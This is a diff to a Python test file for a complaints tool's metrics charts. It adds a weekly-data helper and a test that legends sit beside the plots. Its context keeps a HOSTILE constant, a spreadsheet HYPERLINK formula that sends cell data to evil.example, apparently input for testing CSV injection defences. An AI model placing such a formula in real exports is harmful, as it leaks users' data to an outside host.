@@ -4,10 +4,14 @@ from __future__ import annotations
 
 import csv
 import io
+from datetime import date, timedelta
 from pathlib import Path
+from typing import Any
 
 import pytest
 from test_cli import Cli, cli, migrated  # noqa: F401 - the CLI runner and its fixtures
+
+from escalation.indicators.chart import weekly_figure
 
 HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Refund")'
 
@@ -23,6 +27,37 @@ def test_the_chart_is_drawn_as_png_or_svg_from_the_weekly_series(cli: Cli, tmp_p
     assert (weeks[-1]["received"], weeks[-1]["sla"]["first_response"], weeks[-1]["backlog"]["open"]) == (1, 1.0, 0)
     svg = cli.ok("metrics", "chart", "-o", str(tmp_path / "m.svg"))
     assert "wrote" in svg.out and "<svg" in (tmp_path / "m.svg").read_text(encoding="utf-8")[:500]
+
+
+def weeks_with_a_clock_at_zero(count: int = 26) -> list[dict[str, Any]]:
+    """Weekly rows as ``series.weekly`` gives them; the resolution clock met 0% for half of them."""
+    rows = []
+    for n in range(count):
+        sla = {"acknowledge": 0.9, "first_response": 0.8, "resolution": 0.0 if n < count // 2 else 0.7}
+        rows.append({"week": (date(2026, 6, 1) + timedelta(weeks=n)).isoformat(), "received": 10 + n % 7,
+                     "sla": sla, "sla_all": 0.05 * (n % 3),
+                     "backlog": {"open": 20 + n, "median_age_days": 3 + n % 4, "p90_age_days": 9 + n % 5}})
+    return rows
+
+
+def test_the_charts_legends_lie_beside_the_plots_never_over_their_data() -> None:
+    from matplotlib import pyplot as plt
+
+    fig = weekly_figure(weeks_with_a_clock_at_zero(), ["acknowledge", "first_response", "resolution"], "Weekly")
+    try:
+        renderer = fig.canvas.get_renderer()
+        fig.draw(renderer)  # lays the figure out, as saving it does
+        legends = [ax.get_legend() for ax in fig.axes if ax.get_legend() is not None]
+        assert len(legends) == 2  # the SLA clocks; the backlog's ages and open complaints
+        for legend in legends:
+            box = legend.get_window_extent(renderer)
+            assert not any(box.overlaps(ax.get_window_extent(renderer)) for ax in fig.axes)
+            assert fig.bbox.contains(box.x1, box.y1) and fig.bbox.contains(box.x0, box.y0)  # not cut off the page
+        labels = [t.get_text() for legend in legends for t in legend.get_texts()]
+        assert labels == ["acknowledge", "first_response", "resolution", "all clocks",
+                          "median age", "90th percentile age", "open complaints"]
+    finally:
+        plt.close(fig)
 
 
 def test_a_chart_file_of_another_kind_is_refused_before_anything_is_read(cli: Cli, tmp_path: Path) -> None:  # noqa: F811
